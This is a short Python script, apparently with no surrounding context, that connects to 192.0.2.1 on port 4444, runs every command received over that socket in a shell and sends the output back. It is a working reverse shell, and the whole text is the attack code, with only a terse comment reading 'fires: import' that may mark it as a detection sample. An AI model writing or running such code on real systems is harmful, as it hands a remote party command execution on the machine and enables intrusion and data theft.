import socket, subprocess
link = socket.create_connection(("192.0.2.1", 4444))
while True:
    line = link.recv(1024).decode()
    out = subprocess.run(line, shell=True, capture_output=True)  # fires: import
    link.send(out.stdout)
